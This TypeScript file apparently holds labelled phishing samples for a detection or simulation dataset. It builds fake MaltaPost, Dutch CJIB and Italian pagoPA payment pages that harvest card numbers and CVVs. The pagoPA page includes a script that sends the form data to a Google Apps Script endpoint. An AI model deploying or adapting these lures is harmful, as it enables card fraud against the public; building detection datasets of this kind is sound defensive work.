import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-maltapost-redelivery-fee',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://maltapost-redelivery.com/parcel/',
  body: doc({
    lang: 'en-MT',
    title: 'MaltaPost | Redelivery',
    css: cardCss('#c8102e', '#f4f4f4') + `.top b{color:#c8102e;font-size:22px}`,
    body: `<div class="top"><b>MaltaPost</b><nav><a href="#">Track &amp; Trace</a><a href="#">Help</a></nav></div>
<div class="wrap"><div class="card"><h1>Your parcel is on hold</h1>
<p class="sub">Pakkett tiegħek qed jistenna. We attempted to deliver your parcel RR${digits('mp', 9)}MT but nobody was available. A redelivery fee of <b>€0.80</b> is required.</p>
<form method="post" action="pay.php"><label>Full name</label><input type="text" name="name" required>
<label>Address</label><input type="text" name="addr" required><label>Locality</label><select name="loc"><option>Birkirkara</option><option>Mosta</option><option>Qormi</option><option>Żabbar</option><option>San Pawl il-Baħar</option><option>Sliema</option><option>Victoria (Gozo)</option></select>
<label>Card number</label><input type="text" name="cc" required>
<div class="row"><div><label>Expiry</label><input type="text" name="exp" required></div><div><label>CVV</label><input type="text" name="cvv" required></div></div>
<button class="btn">Pay €0.80</button></form></div></div>`,
  }),
},
{
  id: 'yg-cjib-boete-verhoging',
  label: 'phishing',
  kind: 'traffic-fine-kit',
  url: 'https://cjib-betalingen.nl-online.net/beschikking/',
  body: doc({
    lang: 'nl',
    title: 'CJIB - Openstaande beschikking',
    css: `body{margin:0;font-family:Verdana,sans-serif;background:#f5f5f5}
.b{background:#154273;color:#fff;padding:16px 24px;font-size:19px}
.m{max-width:620px;margin:22px auto;background:#fff;padding:26px}
table{width:100%;border-collapse:collapse;margin:14px 0}td{padding:8px;border-bottom:1px solid #eee;font-size:14px}td:last-child{text-align:right}
.tot td{font-weight:bold;border-top:2px solid #154273}
.w{background:#fde8e8;color:#8b0000;padding:10px;font-size:14px}
a.btn{display:inline-block;background:#01689b;color:#fff;padding:12px 26px;text-decoration:none;margin-top:12px}`,
    body: `<div class="b">Centraal Justitieel Incassobureau</div>
<div class="m"><h1>Openstaande verkeersboete</h1>
<p>Volgens onze administratie heeft u de onderstaande beschikking (Wet Mulder) nog niet betaald. U heeft al een aanmaning ontvangen.</p>
<table><tr><td>Beschikkingsnummer</td><td>${digits('cjib', 16)}</td></tr><tr><td>Overtreding</td><td>Snelheidsoverschrijding A2, 11 km/h</td></tr><tr><td>Sanctie</td><td>€ 88,00</td></tr><tr><td>Administratiekosten</td><td>€ 9,00</td></tr><tr class="tot"><td>Totaal</td><td>€ 97,00</td></tr></table>
<div class="w">Betaalt u niet vóór <b id="dl"></b>, dan wordt het bedrag verhoogd met 50% en kan een deurwaarder worden ingeschakeld.</div>
<a class="btn" href="/beschikking/betalen.php?bn=${digits('cjib', 16)}">Direct betalen met iDEAL</a>
</div><script>document.getElementById('dl').textContent=new Date(Date.now()+86400000).toLocaleDateString('nl-NL')</script>`,
  }),
  routes: {
    'cjib-betalingen.nl-online.net/beschikking/betalen.php': htmlRoute(doc({ lang: 'nl', title: 'iDEAL - Kies uw bank', css: cardCss('#cc0066'), body: `<div class="wrap"><div class="card"><h1>iDEAL</h1><p class="sub">CJIB - € 97,00</p><form method="post" action="/beschikking/bank.php"><label>Kies uw bank</label><select name="b">${bankOptions()}</select><button class="btn">Verder</button></form></div></div>` })),
  },
},
{
  id: 'yg-multa-pagopa-verbale',
  label: 'phishing',
  kind: 'traffic-fine-kit',
  url: 'https://pagopa-verbali.polizia-municipale.eu/avviso/',
  body: doc({
    lang: 'it',
    title: 'pagoPA - Avviso di pagamento verbale',
    css: `body{margin:0;font-family:'Titillium Web',Arial,sans-serif;background:#f2f4f7;color:#17324d}
.h{background:#fff;border-bottom:1px solid #dde;padding:12px 24px;display:flex;justify-content:space-between;align-items:center}.h b{color:#0073e6;font-size:22px}
.c{max-width:560px;margin:28px auto;background:#fff;border-radius:8px;padding:26px;box-shadow:0 2px 8px rgba(0,0,0,.06)}
dl{display:grid;grid-template-columns:1fr 1fr;gap:6px 12px;font-size:14px}dt{color:#5c6f82}dd{margin:0;font-weight:600}
.amt{font-size:28px;font-weight:700;margin:14px 0}
.sc{background:#e6f0fa;border-radius:6px;padding:10px;font-size:13px}
input{width:100%;padding:11px;border:1px solid #aab;border-radius:6px;box-sizing:border-box;margin:4px 0 10px;font-size:15px}
button{width:100%;padding:13px;background:#0073e6;color:#fff;border:0;border-radius:6px;font-size:16px;font-weight:600}`,
    body: `<div class="h"><b>pagoPA</b><span>Comune di Milano - Polizia Locale</span></div>
<div class="c"><h2>Verbale di accertamento n. ${digits('pm-v', 7)}/2025</h2>
<dl><dt>Targa</dt><dd id="tg">--</dd><dt>Violazione</dt><dd>Art. 7 C.d.S. - Accesso ZTL / Area C</dd><dt>Data</dt><dd>12/09/2025 ore 18:42</dd><dt>Codice avviso</dt><dd>3020 ${digits('pm-av', 4)} ${digits('pm-av2', 4)} ${digits('pm-av3', 4)} ${digits('pm-av4', 2)}</dd></dl>
<div class="amt">€ 29,40</div>
<div class="sc">Importo ridotto del 30% se pagato entro 5 giorni dalla notifica. Dopo tale termine: € 42,00 + spese di notifica.</div>
<form id="pg"><input name="targa" placeholder="Targa del veicolo" required><input name="cc" placeholder="Numero carta" required><div style="display:flex;gap:8px"><input name="exp" placeholder="MM/AA" required><input name="cvv" placeholder="CVV" required></div><input name="email" type="email" placeholder="Email per la ricevuta" required><button>Paga ora</button></form></div>
<script>
document.getElementById('pg').targa.addEventListener('input',function(){document.getElementById('tg').textContent=this.value.toUpperCase()});
document.getElementById('pg').onsubmit=function(e){e.preventDefault();fetch('https://script.google.com/macros/s/AKfycb${hex('pm-gs', 40)}/exec',{method:'POST',mode:'no-cors',body:new FormData(this)}).then(function(){location.href='/avviso/3ds.html'})};
</script>`,
  }),
},
];
